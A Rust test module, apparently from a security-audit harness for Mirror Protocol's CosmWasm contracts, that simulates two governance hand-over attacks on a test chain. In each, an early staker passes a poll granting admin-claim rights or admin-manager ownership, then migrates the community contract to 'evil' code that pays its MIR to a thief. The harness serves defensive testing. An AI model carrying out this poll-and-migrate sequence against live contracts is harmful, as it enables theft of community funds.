//! Keys to all code that a poll gives away before anybody else may vote.

use anyhow::Context;
use cosmwasm_std::{to_json_binary, Uint128, WasmMsg};
use mirror_deploy::{hand_over, HandOverError};
use mirror_protocol::admin_manager;
use mirror_protocol::gov::PollAdminAction;
use mirror_testing::{standard_profile, TestChain, World};

use super::super::bundle::Bundle;
use super::super::polls::{self, Motion};
use super::super::scenes::{self, DAY, MILLION, UNIT};
use super::super::stage::Stage;
use super::super::told::{Attempt, Findings};
use super::super::{evil, Attack};

pub(super) const CLAIM: Attack = Attack {
    name: "hand-over: a claim from before",
    story: "Stake that comes after a poll does not vote in it: whoever staked first, 0.01 MIR, \
            had a lent deposit's poll authorise him to claim all code, and the operator was told \
            to carry it out before the hand-over: 36.6 million MIR.",
    run: claim,
};

pub(super) const OWNER: Attack = Attack {
    name: "hand-over: an owner from before",
    story: "The same with another owner for the admin manager, which the hand-over noticed only \
            after all rights had moved to it.",
    run: owner,
};

/// What each of the others stakes, when the poll is open already.
const LATER: u128 = 3 * MILLION / 2;

/// Which key.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Key {
    Claim,
    Owner,
}

/// When the poll is carried out.
#[derive(Clone, Copy, PartialEq, Eq)]
enum When {
    BeforeHandOver,
    AfterIt,
}

fn claim() -> anyhow::Result<Findings> {
    let how = "had a poll authorise the attacker to claim all code";
    found(Key::Claim, how)
}

fn owner() -> anyhow::Result<Findings> {
    found(
        Key::Owner,
        "had a poll make the attacker owner of the admin manager",
    )
}

fn found(key: Key, how: &str) -> anyhow::Result<Findings> {
    let ways = [
        (
            UNIT,
            When::BeforeHandOver,
            "a MIR staked first",
            "before the hand-over",
        ),
        (
            UNIT,
            When::AfterIt,
            "a MIR staked first",
            "after the hand-over",
        ),
        (
            MILLION,
            When::BeforeHandOver,
            "a million",
            "before the hand-over",
        ),
        (MILLION, When::AfterIt, "a million", "after the hand-over"),
    ];
    let attempts = ways.map(|(stake, when, with, moment)| {
        let tried = format!("with {with} {how}, carried out {moment}");
        captured(key, stake, when, tried)
    });
    Ok(Findings {
        attempts: attempts.into_iter().collect::<anyhow::Result<_>>()?,
        exposures: vec![],
    })
}

fn captured(key: Key, stake: u128, when: When, tried: String) -> anyhow::Result<Attempt> {
    let mut stage = prepared(stake)?;
    let motion = Motion::admin(match key {
        Key::Claim => PollAdminAction::AuthorizeClaim {
            authorized_addr: stage.attacker.to_string(),
        },
        Key::Owner => PollAdminAction::UpdateOwner {
            owner: stage.attacker.to_string(),
        },
    });
    let poll_id = polls::proposes(&mut stage, "T-91", &motion)?;
    let poll_id = poll_id.context("anybody may bring a poll")?;
    polls::votes(&mut stage, poll_id)?;
    stage.world.chain.pass(DAY);
    for name in ["alice", "bob", "carol"] {
        stage.world.actor(name).stakes_mir(LATER);
    }
    if when == When::AfterIt {
        stage.world.chain.pass(1);
        hands_over(&mut stage);
    }
    polls::concludes(&mut stage, "T-91", poll_id, &motion)?;
    if when == When::BeforeHandOver {
        hands_over(&mut stage);
    }
    takes_code(&mut stage, key)?;
    polls::leaves(&mut stage)?;
    stage.ends(tried)
}

/// Nobody has staked but the attacker.
fn prepared(stake: u128) -> anyhow::Result<Stage> {
    let mut world = World::bootstrapped(&standard_profile(&TestChain::new()));
    world.drops_mir();
    polls::seats(&mut world, stake)?;
    let mut stage = Stage::new(world, &[("MIR", scenes::price("0.5")?)])?;
    let community = stage.world.at.community.clone();
    stage.watches_account(community)?;
    Ok(stage)
}

/// The operator hands over, and does what he is told if it is too early.
fn hands_over(stage: &mut Stage) {
    let deployment = stage.world.deployment.clone();
    let least = stage_to_take_over();
    let outcome = hand_over(&mut stage.world.deployer(), &deployment, least);
    match outcome {
        Ok(()) => stage.saw("T-91", "gov has taken over"),
        Err(HandOverError::Chain(refusal)) => stage.refused_to_others("T-91", &refusal),
        Err(told) => stage.saw("T-91", told.to_string()),
    }
}

fn stage_to_take_over() -> Uint128 {
    standard_profile(&TestChain::new()).gov.stake_to_take_over
}

/// Other code for the community, whose MIR it pays out.
fn takes_code(stage: &mut Stage, key: Key) -> anyhow::Result<()> {
    let at = stage.world.at.clone();
    let new_code_id = stage.world.chain.app.store_code(evil::code());
    let msg = to_json_binary(&evil::MigrateMsg {
        thief: Some(stage.attacker.clone()),
        token: Some(at.mirror_token.clone()),
    })?;
    if key == Key::Owner {
        let migrate = admin_manager::ExecuteMsg::ExecuteMigrations {
            migrations: vec![(at.community.to_string(), new_code_id, msg)],
        };
        stage.tries("T-91", Bundle::new().tells(&at.admin_manager, &migrate))?;
        return Ok(());
    }
    let claim = admin_manager::ExecuteMsg::ClaimAdmin {
        contract: at.community.to_string(),
    };
    let migrate = WasmMsg::Migrate {
        contract_addr: at.community.into_string(),
        new_code_id,
        msg,
    };
    let mut bundle = Bundle::new().tells(&at.admin_manager, &claim);
    bundle.messages.push(Ok(migrate.into()));
    stage.tries("T-91", bundle)?;
    Ok(())
}
